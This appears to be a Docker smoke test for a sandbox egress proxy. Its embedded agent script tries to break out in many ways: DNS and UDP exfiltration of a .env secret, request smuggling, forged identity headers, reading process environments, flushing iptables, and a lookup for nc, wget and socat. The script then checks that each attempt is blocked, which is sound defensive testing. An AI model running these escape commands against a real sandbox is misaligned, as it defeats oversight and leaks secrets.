#!/usr/bin/env bash
# Docker smoke test: the appliance started exactly as docs/docker.md says (scripts/docker-run)
# on a private network in front of a fake internet, the agent attacking every way out, and
# tcpdump on the bridge proving that every packet the appliance sent belongs to a connection
# the proxy made, is a DNS query for an allowed name, or is ARP/ND housekeeping.
# The credential item: the agent holds a placeholder; the proxy intercepts api.test (a
# credential host), injects the real key, and scrubs the echo of it from the response.
# Names are content: the workspace's .env value and a 40-hex label under the *.zone.test
# wildcard, asked of the agent's resolver and of the proxy, never reach the upstream DNS
# server (an ordinary name under the same wildcard does). A read-only host takes no body
# (a GET carrying a smuggled request, a login posted to …/git-upload-pack), and the
# identity headers an agent sets (x-sandbox-id, x-forwarded-for, ...) never reach api.test.
# Usage: sudo tests/smoke/egress.sh          (root: tcpdump, the audit volume on the host)
source "$(dirname "$0")/lib.sh"
smoke_sweep

NET=$SMOKE_ID-net
UP=$SMOKE_ID-up
APP=$SMOKE_ID-app
AUDIT=$SMOKE_ID-audit
APP4=203.0.113.2
APP6=2001:db8:113::2
UP4=203.0.113.10
UP6=2001:db8:113::10

[ "${AIRLOCK_SMOKE_IMAGE_BUILT:-}" = 1 ] || smoke_build_image
fakenet=$(smoke_fakenet_bin)
smoke_ca "$SMOKE_DIR"

python3 - "$SMOKE_DIR" <<PY
import json, sys
d = sys.argv[1]
json.dump({
    "ca_cert_pem": open(f"{d}/ca.pem").read(), "ca_key_pem": open(f"{d}/ca.key").read(),
    "log": "/log/fakenet.jsonl",
    "http": [{"ip": "::", "port": 80}],
    "https": [{"ip": "::", "port": 443, "names": ["allowed.test", "blocked.test", "api.test"]}],
    "dns": [{"ip": "::", "port": 53}],
    "udp": [{"ip": "::", "port": 443}],
    "zone": {"allowed.test": ["$UP4", "$UP6"], "blocked.test": ["$UP4"], "api.test": ["$UP4"],
             "*.zone.test": ["$UP4"]},
}, open(f"{d}/fakenet.json", "w"))
PY
cat >"$SMOKE_DIR/policy.toml" <<'TOML'
[sandbox]
name = "smoke"

[network]
allow = ["allowed.test", "api.test", "*.zone.test"]
deny = []
# allowed.test is relayed untouched (tunnel and transparent TLS with the fake CA);
# api.test is intercepted, as every other host is, and read-only (not in writable).
passthrough = ["allowed.test"]

[[credentials]]
name = "smoke-api"
source = { env = "SMOKE_API_KEY" }
hosts = ["api.test"]
header = "x-api-key"
format = "{}"
TOML
SECRET=sk-smoke-REALSECRET-$RANDOM$RANDOM
chmod 0644 "$SMOKE_DIR/policy.toml"
mkdir -p "$SMOKE_DIR/log" "$SMOKE_DIR/repo"
chown 1000:1000 "$SMOKE_DIR/repo"
# A workspace secret of no known format, short enough to pass for an ordinary label.
API_SECRET=Zq7vK2pL9xW4mN8r$RANDOM
printf 'API_SECRET=%s\n' "$API_SECRET" >"$SMOKE_DIR/repo/.env"
chown 1000:1000 "$SMOKE_DIR/repo/.env"
HEX=68656c6c6f20776f726c6420746869732069732e

say "network $NET (internal, 203.0.113.0/24 and 2001:db8:113::/64), upstream $UP"
smoke_fakenet_up "$fakenet" "$NET" 203.0.113.0/24 203.0.113.1 "$UP" "$UP4" 2001:db8:113::/64 "$UP6"

smoke_capture "$NET"

# The agent's session: one line per item, KEY=VALUE.
cat >"$SMOKE_DIR/repo/attack.sh" <<'SH'
echo "started=$(date +%s%N)"
C="curl -sS --max-time 10 --cacert /etc/ssl/fakenet-ca.pem"
echo "https=$($C -o /dev/null -w '%{http_code}' https://allowed.test/)"
# No --cacert: the intercepted host is trusted through the appliance CA bundle.
echo "cred_placeholder=$SMOKE_API_KEY"
echo "cred=$(curl -sS --max-time 10 -o /tmp/cred.json -w '%{http_code}' -H "x-api-key: $SMOKE_API_KEY" https://api.test/echo)"
echo "cred_echo_scrubbed=$(grep -c 'REAL[S]ECRET' /tmp/cred.json)"
# A publish to a host allowed for reading (the credential's own host, even).
echo "publish=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}:%header{x-airlock-error}' -X PUT --data-binary @/etc/hostname -H "x-api-key: $SMOKE_API_KEY" https://api.test/publish)"
# Without the CA variables, Debian's system bundle path (a symlink to the bundle) suffices.
echo "cred_system_path=$(env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS --max-time 10 -o /dev/null -w '%{http_code}' https://api.test/echo)"
# The same placeholder in plain HTTP to another host (where the proxy can see it): refused.
echo "cred_leak=$($C -o /dev/null -w '%{http_code}' -H "x-api-key: $SMOKE_API_KEY" http://allowed.test/leak)"
echo "http=$($C -o /dev/null -w '%{http_code}' http://allowed.test/)"
# Names are content: the .env value and an encoded label, through the resolver and the proxy.
. /workspace/.env
getent hosts "$API_SECRET.zone.test" >/dev/null; echo "dns_secret=$?"
getent hosts "68656c6c6f20776f726c.6420746869732069732e.zone.test" >/dev/null; echo "dns_hex=$?"
getent hosts cdn-eu-1.zone.test >/dev/null; echo "dns_ordinary=$?"
echo "name_hex=$($C -o /dev/null -w '%{http_code}:%header{x-airlock-error}' http://68656c6c6f20776f726c6420746869732069732e.zone.test/)"
echo "name_secret=$($C -o /dev/null -w '%{http_code}:%header{x-airlock-error}' "http://$API_SECRET.zone.test/")"
echo "name_ordinary=$($C -o /dev/null -w '%{http_code}' http://cdn-eu-2.zone.test/)"
# A read-only host takes no body: a GET smuggling a PUT, a login to …/git-upload-pack.
echo "get_body=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}:%header{x-airlock-error}' -X GET --data-binary $'PUT /smuggled HTTP/1.1\r\nhost: api.test\r\ncontent-length: 2\r\n\r\nhi' https://api.test/search)"
echo "fake_fetch=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}:%header{x-airlock-error}' -H 'content-type: application/json' --data '{"user":"agent","password":"x"}' https://api.test/o/r.git/git-upload-pack)"
# Identity headers only a proxy may set.
echo "claims=$(curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'x-sandbox-id: other-sandbox' -H 'x-forwarded-for: 10.0.0.1' -H 'x-internal: 1' -H 'x-smokescreen-role: admin' -H 'x-amzn-oidc-identity: root' https://api.test/claims)"
echo "transparent=$($C --noproxy '*' -o /dev/null -w '%{http_code}' https://allowed.test/)"
echo "blocked=$($C -o /dev/null -w '%{http_code}' http://blocked.test/)"
$C -f --noproxy '*' --connect-timeout 5 -o /dev/null https://blocked.test/ 2>/dev/null; echo "blocked_transparent=$?"
$C -f --noproxy '*' --connect-timeout 5 -o /dev/null http://203.0.113.10/ 2>/dev/null; echo "direct=$?"
$C -f --noproxy '*' --connect-timeout 5 -o /dev/null http://169.254.169.254/ 2>/dev/null; echo "meta=$?"
$C -f -6 --noproxy '*' --connect-timeout 5 -o /dev/null 'http://[2001:db8:113::10]/' 2>/dev/null; echo "v6=$?"
getent hosts blocked.test >/dev/null; echo "resolve_blocked=$?"
# A raw DNS query for blocked.test straight to the upstream resolver (a foreign resolver).
q='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07blocked\x04test\x00\x00\x01\x00\x01'
( exec 3<>/dev/udp/203.0.113.10/53 && printf "$q" >&3 && timeout 3 head -c 4 <&3 | od -An -tx1 ) >/tmp/dns.out 2>&1
echo "foreign_dns_answer=$(tr -d ' \n' </tmp/dns.out)"
( exec 3<>/dev/udp/203.0.113.10/443 && printf 'exfil-udp' >&3 ); echo "udp_sent=$?"
( exec 3<>/dev/udp6/2001:db8:113::10/443 && printf 'exfil-udp6' >&3 ) 2>/dev/null; echo "udp6_sent=$?"
ping -c1 -W2 203.0.113.10 >/dev/null 2>&1; echo "ping=$?"
ping -6 -c1 -W2 2001:db8:113::10 >/dev/null 2>&1; echo "ping6=$?"
iptables -F 2>/dev/null; echo "iptables_flush=$?"
/usr/sbin/iptables-nft -t nat -F 2>/dev/null; echo "iptables_nat_flush=$?"
cat /proc/1/environ >/dev/null 2>&1; echo "pid1_environ=$?"
pid=$(pgrep -u airlock airlock-proxy | head -1); cat "/proc/$pid/environ" >/dev/null 2>&1; echo "proxy_environ=$?"
cat /var/log/airlock/audit.jsonl >/dev/null 2>&1; echo "audit_read=$?"
sudo id >/dev/null 2>&1; echo "sudo=$?"
su -c id root </dev/null >/dev/null 2>&1; echo "su=$?"
echo "setuid=$(find / -xdev -type f -perm /6000 2>/dev/null | wc -l)"
for t in wget nc ncat netcat socat sudo; do command -v "$t"; done | wc -l | sed 's/^/forbidden_tools=/'
touch /workspace/written-by-agent; echo "workspace_write=$?"
touch /home/agent/x; echo "home_write=$?"
touch /etc/x 2>/dev/null; echo "rootfs_write=$?"
echo "id=$(id -u):$(id -g):$(id -G)"
grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t' | tr ':' '=' 
SH
chmod 0755 "$SMOKE_DIR/repo/attack.sh"

say "starting the appliance as docs/docker.md says (scripts/docker-run)"
track_volume "$AUDIT"
track_container "$APP"
t0=$(date +%s%N)
AIRLOCK_NO_BUILD=1 AIRLOCK_IMAGE=$SMOKE_IMAGE AIRLOCK_POLICY=$SMOKE_DIR/policy.toml \
AIRLOCK_AUDIT_VOLUME=$AUDIT \
AIRLOCK_DOCKER_ARGS="--name $APP --network $NET --ip $APP4 --ip6 $APP6 --dns $UP4 -v $SMOKE_DIR/ca.pem:/etc/ssl/fakenet-ca.pem:ro -e AIRLOCK_UPSTREAM_CA=/etc/ssl/fakenet-ca.pem -e SMOKE_API_KEY" \
SMOKE_API_KEY=$SECRET \
    "$SMOKE_ROOT/scripts/docker-run" "$SMOKE_DIR/repo" -- bash /workspace/attack.sh \
    >"$SMOKE_DIR/agent.out" 2>"$SMOKE_DIR/agent.err" || true
sleep 0.5
kill "$tcpdump_pid" 2>/dev/null; wait "$tcpdump_pid" 2>/dev/null || true
out=$(cat "$SMOKE_DIR/agent.out")
get() { sed -n "s/^$1=//p" <<<"$out" | head -1; }
if [ -z "$(get started)" ]; then
    cat "$SMOKE_DIR/agent.err" >&2
    die "the agent never ran"
fi

say "agent session"
check "allowed HTTPS through the explicit proxy: 200" [ "$(get https)" = 200 ]
check "allowed HTTP through the explicit proxy: 200" [ "$(get http)" = 200 ]
check "allowed HTTPS without proxy variables (transparent): 200" [ "$(get transparent)" = 200 ]
check "blocked host: 403" [ "$(get blocked)" = 403 ]
check "credential host intercepted and answered: 200" [ "$(get cred)" = 200 ]
placeholder() { case "$(get cred_placeholder)" in airlock-placeholder-smoke-api-*) return 0 ;; esac; return 1; }
check "the agent holds a placeholder ($(get cred_placeholder))" placeholder
check "the echoed secret is scrubbed from the response" [ "$(get cred_echo_scrubbed)" = 0 ]
check "Debian's system CA path trusts the appliance CA too: 200" [ "$(get cred_system_path)" = 200 ]
check "the placeholder sent to another host is refused: 403" [ "$(get cred_leak)" = 403 ]
check "a PUT to a read-only host is refused: $(get publish)" [ "$(get publish)" = "403:read-only-host" ]
check "a GET with a body to a read-only host is refused: $(get get_body)" [ "$(get get_body)" = "403:body-on-read" ]
check "a login posted to …/git-upload-pack of a read-only host is refused: $(get fake_fetch)" [ "$(get fake_fetch)" = "403:read-only-host" ]
check "identity headers the agent sets: the request itself passes ($(get claims))" [ "$(get claims)" = 200 ]
check "the .env value in a name does not resolve (getent $(get dns_secret))" [ "$(get dns_secret)" = 2 ]
check "an encoded name split over labels does not resolve (getent $(get dns_hex))" [ "$(get dns_hex)" = 2 ]
check "an ordinary name under the wildcard resolves (getent $(get dns_ordinary))" [ "$(get dns_ordinary)" = 0 ]
check "a 40-hex name through the proxy is refused: $(get name_hex)" [ "$(get name_hex)" = "403:dns-exfil-suspect" ]
check "the .env value in a name through the proxy is refused: $(get name_secret)" [ "$(get name_secret)" = "403:foreign-secret" ]
check "an ordinary name under the wildcard through the proxy: 200" [ "$(get name_ordinary)" = 200 ]
check "the agent's output never holds the real secret" bash -c "! grep -q '$SECRET' '$SMOKE_DIR/agent.out'"
nonzero() { local v; v=$(get "$1"); [ -n "$v" ] && [ "$v" != 0 ] && [ "$v" != 127 ]; }
for item in blocked_transparent direct meta v6 resolve_blocked ping ping6 iptables_flush \
    iptables_nat_flush pid1_environ proxy_environ audit_read su rootfs_write; do
    check "$item fails ($(get "$item"))" nonzero "$item"
done
check "sudo is absent ($(get sudo))" [ "$(get sudo)" = 127 ]
ran() { [ -n "$(get udp_sent)" ] && [ -n "$(get udp6_sent)" ]; }
check "UDP datagrams attempted (v4 $(get udp_sent), v6 $(get udp6_sent); the wire check proves none left)" ran
# The raw query is answered by airlock's DNS filter (the name is denied: NXDOMAIN, rcode 3
# in byte 4), never upstream.
ans=$(get foreign_dns_answer)
refused() { [ "${ans:0:4}" = 1234 ] && [ "${ans:7:1}" = 3 ]; }
check "foreign DNS answered by airlock's filter, NXDOMAIN ($ans)" refused
check "no setuid/setgid file in the image ($(get setuid))" [ "$(get setuid)" = 0 ]
check "no sudo, wget, nc, socat ($(get forbidden_tools))" [ "$(get forbidden_tools)" = 0 ]
writes() { [ "$(get workspace_write)" = 0 ] && [ "$(get home_write)" = 0 ]; }
check "agent writes its workspace and home" writes
check "agent is 1000:1000 with no other group ($(get id))" [ "$(get id)" = "1000:1000:1000" ]
unprivileged() {
    [ "$(get CapEff)" = 0000000000000000 ] && [ "$(get CapBnd)" = 0000000000000000 ] &&
        [ "$(get NoNewPrivs)" = 1 ] && [ "$(get Seccomp)" = 2 ]
}
check "agent has no capabilities, no_new_privs, seccomp filter" unprivileged

say "upstream and the audit log"
ulog="$SMOKE_DIR/log/fakenet.jsonl"
check "upstream saw the allowed requests" grep -q '"kind":"http"' "$ulog"
check "upstream received the injected real secret on api.test" grep -q "\"x-api-key\":\"$SECRET\"" "$ulog"
check "upstream never received the placeholder" bash -c "! grep -q 'airlock-placeholder' '$ulog'"
check "nothing reached upstream for the leak attempt" bash -c "! grep -q '/leak' '$ulog'"
check "nothing reached upstream for the publish attempt" bash -c "! grep -q '/publish' '$ulog'"
check "upstream saw no UDP datagram" bash -c "! grep -q '\"kind\":\"udp\"' '$ulog'"
check "upstream saw nothing about blocked.test" bash -c "! grep -q 'blocked' '$ulog'"
check "upstream never saw the smuggled request or the login" bash -c "! grep -q -e smuggled -e git-upload-pack '$ulog'"
check "upstream saw the request with identity headers" grep -q '/claims' "$ulog"
check "none of the identity headers reached upstream" bash -c "! grep -q -i -e x-sandbox-id -e x-forwarded-for -e x-internal -e smokescreen -e x-amzn-oidc '$ulog'"
check "the upstream DNS server was asked the ordinary names" bash -c "grep -q 'cdn-eu-1.zone.test' '$ulog' && grep -q 'cdn-eu-2.zone.test' '$ulog'"
check "the upstream DNS server never saw the .env value or the hex (in any case)" bash -c "! grep -q -i -e '$API_SECRET' -e 68656c6c6f '$ulog'"
audit="$(volume_path "$AUDIT")/audit.jsonl"
check "audit log has the denials with reasons" grep -q '"reason":"blocked-by-policy"' "$audit"
check "the names with the .env value are refused foreign-secret, the detector named" python3 -c '
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
hits = [l for l in lines if l.get("reason") == "foreign-secret" and l.get("rule") == "secret detector workspace:.env"]
sys.exit(0 if {l["kind"] for l in hits} >= {"dns", "http"} else 1)' "$audit"
check "the audit log never holds the .env value" bash -c "! grep -q -i '$API_SECRET' '$audit'"
check "every audit line names the sandbox and this container" python3 -c '
import json, re, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
ok = lines and all(l.get("sandbox") and re.fullmatch("[0-9a-f]{64}", l.get("container") or "") for l in lines)
sys.exit(0 if ok and len({l["container"] for l in lines}) == 1 else 1)' "$audit"
proxy_uid=$(docker run --rm --network none --entrypoint id "$SMOKE_IMAGE" -u airlock)
check "audit log is the proxy's (uid $proxy_uid), 0600" [ "$(stat -c '%u %a' "$audit")" = "$proxy_uid 600" ]

say "wire (tcpdump on $BR)"
tcpdump -nn -r "$SMOKE_DIR/wire.pcap" 2>/dev/null >"$SMOKE_DIR/wire.txt"
if python3 "$SMOKE_ROOT/tests/smoke/wire_check.py" "$audit" allowed.test,api.test,cdn-eu-1.zone.test,cdn-eu-2.zone.test "$APP4" "$APP6" \
    <"$SMOKE_DIR/wire.txt"; then
    pass "every packet from the appliance is the proxy's, an allowed DNS query or housekeeping"
else
    fail "a packet left the appliance that the proxy did not send"
fi

ready=$(grep -o 'ready in [0-9]* ms' "$SMOKE_DIR/agent.err" | head -1)
started=$(get started)
say "timing: entrypoint $ready; docker run -> agent exec $(((started - t0) / 1000000)) ms"
if [ "$SMOKE_FAILS" -ne 0 ]; then
    say "agent output:"; cat "$SMOKE_DIR/agent.out" >&2
    say "entrypoint stderr (last 30 lines):"; grep -v ' INFO ' "$SMOKE_DIR/agent.err" | tail -30 >&2
    die "$SMOKE_FAILS check(s) failed"
fi
say "egress: all checks passed"
